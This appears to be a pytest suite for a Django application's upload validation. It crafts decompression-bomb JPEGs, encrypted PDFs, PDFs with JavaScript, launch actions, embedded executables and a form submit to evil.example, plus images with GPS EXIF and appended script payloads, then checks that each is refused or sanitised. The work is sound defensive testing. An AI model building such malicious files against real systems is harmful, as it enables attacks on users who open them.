"""Uploads are judged and stored by their content: decompression bombs and encrypted PDFs get a field error
(never a 500), images are re-encoded (EXIF/GPS and appended payloads dropped), PDFs with JavaScript, launch
actions or embedded files are refused, and objection evidence is stored and served under its detected type."""

import io
import re

import pytest
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from awards.models import Attachment
from tests.awards.applicant_support import form_data, jpeg_bytes, open_campaign, pdf_bytes, upload
from tests.factories import ApplicationFactory
from tests.workflow.office.test_publicity_pages import _open, confirmed_campaign, office, unit  # noqa: F401 - fixtures
from workflow.models import Objection

pytestmark = pytest.mark.django_db


@pytest.fixture
def application(client):
    app = ApplicationFactory(campaign=open_campaign())
    client.force_login(app.applicant)
    return app


def post_files(client, application, **files):
    data = form_data(application)
    data.update(files)
    return client.post(reverse("awards:application_edit", args=[application.pk]), data)


def _errors(response) -> str:
    return response.content.decode()


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small real JPEG whose frame header (SOF0) announces width × height: a decompression bomb."""
    data = bytearray(jpeg_bytes(16, 16))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 7] = height.to_bytes(2, "big")
    data[sof + 7 : sof + 9] = width.to_bytes(2, "big")
    return bytes(data)


@pytest.mark.parametrize(
    ("width", "height"),
    [(30000, 30000), (10000, 10000), (7000, 7000)],
    ids=["pillow-error", "pillow-warning", "over-our-cap"],
)
def test_a_decompression_bomb_photo_gets_a_field_error(client, application, width, height):
    response = post_files(
        client, application, photo=upload("bomb.jpg", jpeg_claiming(width, height), "image/jpeg")
    )
    assert response.status_code == 200
    assert "像素尺寸过大" in _errors(response)
    assert not application.attachments.filter(kind=Attachment.Kind.PHOTO).exists()


def _pdf(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(writer, action: dict):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject(k): (NameObject(v) if v.startswith("/") else TextStringObject(v))
            for k, v in action.items()
        }
    )


def _names_javascript(writer):
    """A document-level script in the name tree (/Names /JavaScript), run when the file opens."""
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(script)])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def test_an_encrypted_pdf_gets_a_field_error(client, application):
    content = _pdf(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="RC4-128"))
    response = post_files(client, application, evidence=upload("e.pdf", content, "application/pdf"))
    assert response.status_code == 200
    assert "已加密或设有密码" in _errors(response)
    assert not application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()


def test_an_aes_encrypted_pdf_gets_a_field_error_too(client, application):
    """AES-256 (R6) needs a crypto library pypdf may not have: opening its pages used to raise a 500."""
    encrypt = (
        b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 "
        + b"".join(
            b"/%s <%s> " % (key, b"00" * size)
            for key, size in ((b"O", 48), (b"U", 48), (b"OE", 32), (b"UE", 32), (b"Perms", 16))
        )
        + b">> /Root"
    )
    content = pdf_bytes(1).replace(b"/Root", encrypt, 1)
    response = post_files(client, application, evidence=upload("e.pdf", content, "application/pdf"))
    assert response.status_code == 200
    assert "已加密或设有密码" in _errors(response)


@pytest.mark.parametrize(
    ("build", "message"),
    [
        (lambda w: _names_javascript(w), "含有脚本"),
        (lambda w: _open_action(w, {"/S": "/JavaScript", "/JS": "app.alert(1)"}), "含有脚本"),
        (lambda w: _open_action(w, {"/S": "/Launch", "/F": "calc.exe"}), "启动外部程序"),
        (lambda w: w.add_attachment("payload.exe", b"MZ" + b"\x00" * 64), "内嵌了其他文件"),
    ],
    ids=["names-javascript", "openaction-javascript", "launch", "embedded-file"],
)
def test_active_pdfs_are_refused(client, application, build, message):
    response = post_files(client, application, evidence=upload("e.pdf", _pdf(build), "application/pdf"))
    assert response.status_code == 200
    assert message in _errors(response)
    assert not application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _xfa_with_script(writer):
    """An AcroForm whose XFA packet carries a <script> (run by XFA viewers when the form opens)."""
    xfa = DecodedStreamObject()
    xfa.set_data(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
        b'<script contentType="application/x-javascript">xfa.host.messageBox("x")</script>'
        b"</event></subform></template></xdp:xdp>"
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )


def _annotation(writer, annotation: dict):
    """An annotation on the first page."""
    entry = DictionaryObject({NameObject("/Type"): NameObject("/Annot")})
    entry.update({NameObject(k): v for k, v in annotation.items()})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(entry)])


def _submit_widget(writer):
    """A form button that posts the form's data to a remote server when clicked."""
    _annotation(
        writer,
        {
            "/Subtype": NameObject("/Widget"),
            "/FT": NameObject("/Btn"),
            "/Rect": ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(20)]),
            "/A": _action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
        },
    )


def _page_open_action(writer):
    """A page's additional action (/AA /O): runs when the page is shown."""
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))}
    )


def _rich_media(writer):
    _annotation(
        writer,
        {
            "/Subtype": NameObject("/RichMedia"),
            "/Rect": ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(20)]),
        },
    )


def _orphan_script(writer):
    """A JavaScript action not reachable from the catalog (an older revision's object): still in the file."""
    writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(2)")))


def _script_under_p(writer):
    """A direct dictionary under a /P key is not a back-reference: it is looked into."""
    writer._root_object[NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/P"): _action("/JavaScript", JS=TextStringObject("app.alert(3)"))}
    )


@pytest.mark.parametrize(
    ("build", "words"),
    [
        (_xfa_with_script, ["XFA 动态表单", "/XFA"]),
        (_submit_widget, ["向外提交表单数据的动作", "/SubmitForm"]),
        (lambda w: _open_action(w, {"/S": "/URI", "/URI": "https://evil.example/"}), ["打开网址", "/URI"]),
        (lambda w: _open_action(w, {"/S": "/ImportData", "/F": "data.fdf"}), ["导入外部数据", "/ImportData"]),
        (lambda w: _open_action(w, {"/S": "/GoToR", "/F": "other.pdf"}), ["打开其他文件", "/GoToR"]),
        (_page_open_action, ["自动执行的动作", "/AA"]),
        (_rich_media, ["多媒体", "/RichMedia"]),
        (_orphan_script, ["含有脚本"]),
        (_script_under_p, ["含有脚本"]),
    ],
    ids=[
        "xfa-script",
        "submit-form",
        "uri-open-action",
        "import-data",
        "goto-remote",
        "page-aa",
        "rich-media",
        "unreferenced-object",
        "direct-dict-under-p",
    ],
)
def test_more_active_content_is_refused_naming_what_was_found(client, application, build, words):
    """Issue 21 item 8: every active feature anywhere in the file is refused with a field error naming it."""
    response = post_files(client, application, evidence=upload("e.pdf", _pdf(build), "application/pdf"))
    assert response.status_code == 200
    for word in words:
        assert word in _errors(response)
    assert "出于安全考虑不能接收" in _errors(response)
    assert not application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()


def test_an_open_action_that_only_shows_the_first_page_is_accepted(client, application):
    """/OpenAction as a destination (open at page 1, whole page) is not active content."""

    def build(writer):
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    response = post_files(client, application, evidence=upload("e.pdf", _pdf(build), "application/pdf"))
    assert response.status_code == 302
    assert application.attachments.filter(kind=Attachment.Kind.EVIDENCE).exists()


def test_a_plain_pdf_is_still_accepted(client, application):
    assert (
        post_files(client, application, evidence=upload("e.pdf", pdf_bytes(2), "application/pdf")).status_code
        == 302
    )
    assert application.attachments.get(kind=Attachment.Kind.EVIDENCE).pages == 2


def _jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (300, 400), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {1: "N", 2: (31.0, 14.0, 0.0), 3: "E", 4: (121.0, 28.0, 0.0)}  # GPSInfo: Shanghai
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif, comment=b"<img src=x onerror=alert(2)>")
    return out.getvalue() + b"<script>alert(1)</script>"  # and a payload appended after the image


def test_the_photo_is_re_encoded_without_exif_gps_or_appended_payload(client, application):
    original = _jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get(0x8825)
    assert post_files(client, application, photo=upload("p.jpg", original, "image/jpeg")).status_code == 302
    stored = application.attachments.get(kind=Attachment.Kind.PHOTO).file.read()
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG" and image.size == (300, 400)
        assert dict(image.getexif()) == {}
        assert "exif" not in image.info
    assert b"<script>" not in stored and b"PhoneMaker" not in stored and b"onerror" not in stored


def _object(client, campaign, name, content, content_type):
    url = reverse("workflow:public_publicity", args=[campaign.pk])
    app = campaign.applications.get()
    return client.post(
        url,
        {
            "application": app.pk,
            "objector_name": "李四",
            "objector_id_or_contact": "13900001111",
            "content": "其代表性成果并非本人完成。",
            "evidence": upload(name, content, content_type),
        },
    )


def test_objection_evidence_keeps_the_detected_type_not_the_clients_name(client, office, confirmed_campaign):  # noqa: F811
    _open(client, office, confirmed_campaign)
    client.logout()
    _object(client, confirmed_campaign, "poly.html", pdf_bytes(1), "text/html")
    objection = Objection.objects.get()
    assert re.fullmatch(r"objections/\d+/evidence[\w-]*\.pdf", objection.evidence.name), (
        objection.evidence.name
    )
    client.force_login(office)
    response = client.get(reverse("workflow:objection_evidence", args=[objection.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert (
        response["Content-Disposition"].startswith("attachment;")
        and ".html" not in response["Content-Disposition"]
    )
    assert (response["X-Content-Type-Options"], response["Cache-Control"]) == ("nosniff", "private, no-store")


def test_html_objection_evidence_is_refused_with_a_field_error(client, office, confirmed_campaign):  # noqa: F811
    _open(client, office, confirmed_campaign)
    client.logout()
    response = _object(
        client, confirmed_campaign, "e.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"
    )
    assert response.status_code == 200
    assert "须为 PDF、JPG 或 PNG 文件" in response.content.decode()
    assert not Objection.objects.exists()


def test_objection_evidence_pdf_with_javascript_is_refused(client, office, confirmed_campaign):  # noqa: F811
    _open(client, office, confirmed_campaign)
    client.logout()
    content = _pdf(lambda w: _open_action(w, {"/S": "/JavaScript", "/JS": "app.alert(1)"}))
    response = _object(client, confirmed_campaign, "e.pdf", content, "application/pdf")
    assert "含有脚本" in response.content.decode()
    assert not Objection.objects.exists()


def test_objection_evidence_image_is_re_encoded(client, office, confirmed_campaign):  # noqa: F811
    _open(client, office, confirmed_campaign)
    client.logout()
    _object(client, confirmed_campaign, "photo.html", _jpeg_with_gps(), "text/html")
    objection = Objection.objects.get()
    assert objection.evidence.name.endswith(".jpg")
    stored = objection.evidence.read()
    assert b"<script>" not in stored and dict(Image.open(io.BytesIO(stored)).getexif()) == {}
